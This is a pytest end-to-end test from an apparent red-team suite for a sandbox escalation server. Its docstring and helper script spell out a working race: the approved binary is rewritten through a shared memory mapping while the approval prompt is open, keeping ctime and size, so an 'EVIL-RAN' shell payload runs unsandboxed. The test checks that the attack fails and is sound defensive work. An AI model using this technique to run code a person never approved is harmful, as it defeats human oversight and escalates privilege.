"""Attack: the approved program is rewritten during the prompt through a shared mapping, ctime and size kept.

Since 0bc8290 the escalation server re-opens the program after the decision and requires the
identified device, inode, change time and size (``reopen_identified``), then executes that fd.
Change time and size are not the contents: a ``MAP_SHARED`` mapping whose pages were written
*before* the exec was identified stays writable without another page fault, so later writes
change no time stamp (red-team round 3; the backstop re-reads kinds for that reason, the
escalation path does not). The session needs no protocol tricks: the real wrapper asks, the
question is up, a helper of the session rewrites the file through its mapping and unmaps it (no
ETXTBSY at the spawn), the approver approves, and the session's program runs unsandboxed.

Safe behaviour: the contents the approver was asked about run, or nothing does.
"""

from __future__ import annotations

import shutil
import sys
import time
import uuid
from pathlib import Path

import pytest

from attack_support import Attacker, approved_after

pytestmark = pytest.mark.e2e

RULES = """
[[rule]]
id = "ask-tool"
program = "tool"
decision = "prompt"
execution = "unsandboxed"
justification = "the tool touches the host"
"""

#: In the session: map ./tool shared, dirty every page (one ctime update, now), then later rewrite it.
HELPER = r'''
import mmap, os, sys, time
pwned = sys.argv[1]
fd = os.open("tool", os.O_RDWR)
size = os.fstat(fd).st_size
m = mmap.mmap(fd, size, mmap.MAP_SHARED)
os.close(fd)
for page in range(0, size, mmap.PAGESIZE):
    m[page] = m[page]
open("ready", "w").close()
time.sleep(2)                       # the exec of ./tool has been identified; the question is up
before = os.stat("tool")
evil = ("#!/bin/sh\necho EVIL-RAN; id > %s\nexit 0\n" % pwned).encode()
m[:] = evil + b"#" * (size - len(evil) - 1) + b"\n"
m.close()                           # no writer left at the spawn
after = os.stat("tool")
print("REWRITTEN ctime-same", before.st_ctime_ns == after.st_ctime_ns, "size-same",
      before.st_size == after.st_size, flush=True)
'''


def test_approved_program_rewritten_through_a_mapping(attacker: Attacker) -> None:
    work = attacker.workdir()
    (work / "rules.toml").write_text(RULES)
    (work / "helper.py").write_text(HELPER)
    tool = work / "tool"
    shutil.copy("/usr/bin/touch", tool)
    tool.chmod(0o755)
    shutil.chown(tool, attacker.uid, attacker.gid)
    tag = uuid.uuid4().hex[:8]
    outside = Path(f"/tmp/eg-mm-{tag}")
    pwned = Path(f"/tmp/eg-mm-{tag}-pwned")  # the host's /tmp: only an escalation reaches it
    script = (f"{sys.executable} helper.py {pwned} & "
              "while [ ! -e ready ]; do sleep 0.1; done; sleep 0.2; "
              f"./tool {outside}; echo status=$?; wait")
    # a person reads the question (./tool, a dynamic ELF), then approves once
    out, err, shown = approved_after(attacker, script, 5)
    try:
        assert "elf" in shown, shown  # the person was shown an ELF
        assert "REWRITTEN" in out, (out, err)
        assert "EVIL-RAN" not in out and not pwned.exists(), (out, err, shown)
    finally:
        for path in (outside, pwned):
            path.unlink(missing_ok=True)
